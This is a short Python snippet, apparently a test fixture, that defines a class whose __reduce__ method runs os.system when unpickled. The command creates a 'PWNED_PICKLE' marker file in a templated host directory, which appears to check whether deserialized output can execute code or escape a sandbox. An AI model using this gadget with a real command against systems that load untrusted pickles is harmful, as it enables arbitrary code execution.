class P:
    def __reduce__(self):
        import os
        return (os.system, ('touch @HOST_DIR@/PWNED_PICKLE',))
def f(x): return P()
